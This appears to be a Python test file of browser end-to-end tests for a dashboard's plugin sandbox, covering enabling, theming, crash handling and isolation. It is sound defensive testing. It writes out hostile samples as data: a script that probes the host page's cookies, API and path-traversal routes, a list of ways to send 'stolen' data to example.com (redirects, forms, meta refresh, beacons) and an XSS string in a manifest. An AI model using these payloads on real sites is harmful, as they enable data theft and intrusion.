"""Plugins of others in a real browser: seen in their frame, switched in the settings, and unable to hurt the host."""

import json

import pytest

from tests.browser.conftest import Site
from tests.e2e.http_server import Serving
from tests.e2e.plugin_folders import copy_example, write

LISTING = "/api/plugins/dashboard/plugins"
OWN = "@router.get('/mine')\nasync def mine():\n    return 'my own'\n"


def enable(site, name):
    listed = next(one for one in site.server.client.get(LISTING).json() if one["name"] == name)
    needs = [need["name"] for need in listed["needs"]]
    site.server.client.post(f"{LISTING}/{name}/enable", json={"needs": needs}).raise_for_status()


def framed(page):
    return page.frame_locator("iframe.plugin-frame")


def tabs(page):
    return page.get_by_role("navigation").get_by_role("link")


def is_usable(page):
    """Other pages open and answer to a click."""
    tabs(page).filter(has_text="Sessions").click()
    page.locator(".session-row").first.wait_for()
    tabs(page).filter(has_text="Insights").click()
    page.get_by_role("heading", name="Insights").wait_for()


@pytest.fixture(scope="module")
def chromium_site(chromium, tmp_path_factory):
    """One server for several small plugins."""
    home = tmp_path_factory.mktemp("home") / ".sojourn"
    (home / "plugins").mkdir(parents=True)
    with Serving(home) as server:
        made = Site(chromium, server)
        yield made
        made.close()


@pytest.fixture
def filled(site):
    site.server.client.post("/api/plugins/dashboard/samples")
    return site


def test_a_switch_shows_what_is_needed_then_the_page_is_there_and_goes_again(filled, find_violations):
    copy_example(filled.server.home)
    page = filled.open("/settings/plugins")
    switch = page.get_by_role("switch", name="Garden")
    assert switch.get_attribute("aria-checked") == "false"
    assert tabs(page).filter(has_text="Garden").count() == 0
    switch.click()
    asked = page.get_by_role("dialog", name="Turn on Garden?")
    assert asked.get_by_role("listitem").all_inner_texts() == [
        "Run its own program on this machine.",
        "List and read your sessions in its page.",
    ]
    assert find_violations(page) == []
    asked.get_by_role("button", name="Turn on").click()
    tabs(page).filter(has_text="Garden").click()
    page.wait_for_url("**/garden")
    framed(page).get_by_role("listitem").first.wait_for()  # its sessions
    framed(page).get_by_role("button", name="Plant a tulip").click()
    framed(page).get_by_text("rose, tulip").wait_for()
    page.get_by_role("status").get_by_text("Planted.").wait_for()
    page.reload()
    framed(page).get_by_role("heading", name="Garden").wait_for()
    framed(page).get_by_role("button").press("Control+k")  # the way out is there, wherever the focus is
    page.get_by_role("dialog", name="Search or jump to").wait_for()
    page.keyboard.press("Escape")
    assert find_violations(page) == []
    tabs(page).filter(has_text="Settings").click()
    page.get_by_role("link", name="Plugins").click()
    page.get_by_role("switch", name="Garden").click()
    tabs(page).filter(has_text="Garden").wait_for(state="detached")
    assert page.get_by_role("switch", name="Garden").get_attribute("aria-checked") == "false"
    assert filled.server.client.get("/garden").status_code == 404
    assert filled.console_errors == []


def test_a_broken_one_is_shown_with_its_reason_and_no_switch(filled):
    (write(filled.server.home, "torn") / "manifest.json").write_text('{"lable": "<img src=x onerror=alert(1)>"}')
    page = filled.open("/settings/plugins")
    row = page.locator(".item-list li", has_text="torn")
    row.get_by_text("Did you mean `label`?").wait_for()
    assert row.get_by_role("switch").count() == 0


def test_tabs_stand_where_their_manifests_say_and_achievements_is_one_of_them(filled):
    copy_example(filled.server.home)
    enable(filled, "garden")
    page = filled.open("/sessions")
    tabs(page).filter(has_text="Garden").wait_for()
    row = [one.strip() for one in tabs(page).all_inner_texts()]
    assert row[row.index("Sessions") + 1] == "Achievements"
    assert row[row.index("Insights") + 1] == "Garden"
    page.keyboard.press("Control+k")
    page.keyboard.type("gard")
    page.keyboard.press("Enter")
    page.wait_for_url("**/garden")
    listed = [one for one in filled.server.client.get(LISTING).json() if one["name"] != "hermes-achievements"]
    page.route(f"**{LISTING}", lambda route: route.fulfill(json=listed))
    page.reload()
    tabs(page).filter(has_text="Garden").wait_for()
    assert tabs(page).filter(has_text="Achievements").count() == 0  # the listing is where its tab came from


def test_theme_and_language_reach_the_frame(filled):
    write(
        filled.server.home,
        "plain",
        page="sojourn.ready.then(({plugin}) => { document.body.dataset.name = plugin.name; });",
    )
    enable(filled, "plain")
    page = filled.open("/plain")
    framed(page).locator("body[data-name=plain]").wait_for()
    page.get_by_role("button", name="Dark").click()
    framed(page).locator("html[data-theme=dark]").wait_for()
    page.get_by_label("Language").select_option("zh")
    framed(page).locator("html[lang=zh]").wait_for()


def test_a_page_that_throws_says_so_and_leaves_the_rest_standing(filled):
    write(filled.server.home, "clumsy", page="throw new Error('the pot <b>broke</b>');")
    enable(filled, "clumsy")
    page = filled.open("/clumsy")
    page.get_by_role("alert").get_by_text("the pot <b>broke</b>").wait_for()
    is_usable(page)


def test_a_page_that_never_stops_leaves_the_rest_standing(filled):
    write(filled.server.home, "spinner", page="document.body.dataset.spins = '1'; while (true) {}")
    enable(filled, "spinner")
    page = filled.open("/spinner")
    page.locator("iframe.plugin-frame").wait_for()
    page.get_by_role("alert").get_by_text("does not respond").wait_for(timeout=20_000)
    is_usable(page)


@pytest.mark.parametrize("flood", ["sojourn.toast('x')", "parent.postMessage({sojourn: 'hello'}, '*')"])
def test_a_page_that_talks_without_end_is_stopped(filled, flood):
    write(filled.server.home, "gossip", page=f"setInterval(() => {{ for (let i = 0; i < 1000; i++) {flood}; }}, 1);")
    enable(filled, "gossip")
    page = filled.open("/gossip")
    page.get_by_role("alert").get_by_text("sent too many messages").wait_for()
    assert page.locator("iframe").count() == 0
    is_usable(page)


PRY = """
const told = {};
const attempt = async (name, act) => {
  try { told[name] = String(await act()); } catch (error) { told[name] = "refused"; }
};
(async () => {
  await attempt("origin", () => self.origin);
  await attempt("parent document", () => parent.document.body.innerHTML);
  await attempt("parent function", () => parent.fetch("/api/sessions"));
  await attempt("top location", () => { top.location.href = "/stolen"; });
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("host api", async () => (await fetch("/api/sessions")).status);
  const openly = {credentials: "include", mode: "no-cors"};
  await attempt("host api with cookie", async () => (await fetch("/api/sessions", openly)).type);
  await attempt("outside", async () => (await fetch("http://example.com/")).status);
  await attempt("picture", () => new Promise((done, failed) => {
    const image = new Image(); image.onload = done; image.onerror = failed; image.src = "/assets/icon.svg";
  }));
  await attempt("worker", () => new Promise((done, failed) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => done("made"); worker.onerror = failed;
  }));
  await attempt("inline script", () => {
    const script = document.createElement("script");
    script.textContent = "window.ran = 1";
    document.body.append(script);
    return window.ran ?? "refused";
  });
  await attempt("calls", () => new RTCPeerConnection() ? "made" : "refused");
  await attempt("eval", () => (0, eval)("1 + 1"));
  await attempt("popup", () => open("/") ?? "refused");
  await attempt("own api", () => sojourn.api("mine"));
  await attempt("other api", () => sojourn.api("../victim/mine"));
  await attempt("encoded", () => sojourn.api("..%2fvictim%2fmine"));
  await attempt("dots", () => sojourn.api("%2e%2e/victim/mine"));
  await attempt("host", () => sojourn.api("/../../sessions"));
  await attempt("absolute", () => sojourn.api(location.href.split("/dashboard-plugins")[0] + "/api/sessions"));
  await attempt("elsewhere", () => sojourn.api("//example.com/"));
  await attempt("sessions", async () => (await sojourn.sessions.list()).sessions.length);
  await attempt("one session", async () => (await sojourn.sessions.read("sample")).session.id);
  await attempt("go outside", () => sojourn.go("//example.com/"));
  document.body.textContent = JSON.stringify(told);
})();
"""


def test_a_frame_sees_nothing_of_the_host_and_reaches_only_its_own_api(filled):
    home = filled.server.home
    write(home, "pryer", page=PRY, api=OWN)
    write(home, "victim", api=OWN.replace("my own", "of the victim"))
    enable(filled, "pryer")
    enable(filled, "victim")
    page = filled.open("/pryer")
    framed(page).get_by_text("go outside").wait_for()
    told = json.loads(framed(page).locator("body").inner_text())
    assert told.pop("own api") == "my own"
    assert told.pop("origin") == "null"
    assert told.pop("cookie", "refused") in ("", "refused")
    assert set(told.values()) == {"refused"}, told
    assert len(told) == 22
    assert page.url.endswith("/pryer")
    asked = {path for _, path in filled.requests}
    assert not {path for path in asked if path.startswith("/api/plugins/victim")}
    assert filled.foreign_requests == []


CARRY = {
    "its own address": "location.href = 'http://example.com/?stolen';",
    "a page of ours": "location.href = '/sessions?stolen';",
    "a form": "document.body.innerHTML = '<form action=\"http://example.com/\"><input name=stolen></form>';"
    "document.forms[0].submit();",
    "a refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=http://example.com/?stolen\">';",
    "links": 'document.head.innerHTML += \'<link rel=stylesheet href="http://example.com/s.css">'
    '<link rel=prefetch href="http://example.com/p"><link rel=preload as=image href="http://example.com/i">\';',
    "a frame": "document.body.innerHTML = '<iframe src=\"http://example.com/?stolen\"></iframe>';",
    "a beacon": "navigator.sendBeacon('http://example.com/', 'stolen');",
}


@pytest.mark.parametrize("way", CARRY.values(), ids=CARRY)
def test_a_frame_carries_nothing_outside(chromium_site, way):
    name = f"carrier{len(list((chromium_site.server.home / 'plugins').glob('*')))}"
    write(chromium_site.server.home, name, page=way)
    enable(chromium_site, name)
    page = chromium_site.open(f"/{name}")
    page.locator("iframe.plugin-frame").wait_for()
    page.wait_for_timeout(700)
    assert chromium_site.foreign_requests == []
    assert not [path for _, path in chromium_site.requests if "stolen" in path]
    assert page.url.endswith(f"/{name}")


def test_with_the_need_declared_sessions_can_be_read(filled):
    script = """sojourn.sessions.list({limit: 1}).then(async ({sessions}) => {
      const {session, messages} = await sojourn.sessions.read(sessions[0].id);
      document.body.textContent = `${session.id === sessions[0].id} ${messages.length > 0}`;
    });"""
    write(filled.server.home, "reader", page=script, needs=["sessions:read"])
    enable(filled, "reader")
    framed(filled.open("/reader")).get_by_text("true true").wait_for()


def test_its_document_opened_alone_is_no_page_of_ours(filled):
    """Whoever follows the address of a frame gets a sandbox, not our origin."""
    write(filled.server.home, "loner", page="document.body.textContent = 'origin ' + self.origin;")
    enable(filled, "loner")
    listed = next(one for one in filled.server.client.get(LISTING).json() if one["name"] == "loner")
    page = filled.open(listed["frame"])
    page.get_by_text("origin null").wait_for()


def test_a_plugin_page_fits_a_phone(filled):
    copy_example(filled.server.home)
    enable(filled, "garden")
    page = filled.open("/garden", viewport={"width": 390, "height": 844})
    framed(page).get_by_role("heading", name="Garden").wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.locator("iframe.plugin-frame").bounding_box()["height"] > 500
